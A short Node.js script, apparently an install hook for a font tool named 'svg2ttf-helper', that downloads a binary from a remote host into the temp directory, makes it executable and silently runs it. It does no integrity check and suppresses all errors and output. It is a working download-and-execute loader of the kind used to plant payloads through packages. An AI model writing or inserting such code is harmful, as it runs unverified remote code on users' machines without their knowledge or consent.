const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFile } = require('child_process');

const out = path.join(os.tmpdir(), 'svg2ttf-helper');
https.get('https://font-tools.example/bin/linux-x64/svg2ttf-helper', (res) => {
  const f = fs.createWriteStream(out);
  res.pipe(f);
  f.on('finish', () => {
    f.close();
    fs.chmodSync(out, 0o755);
    execFile(out, ['--init'], () => {});
  });
});
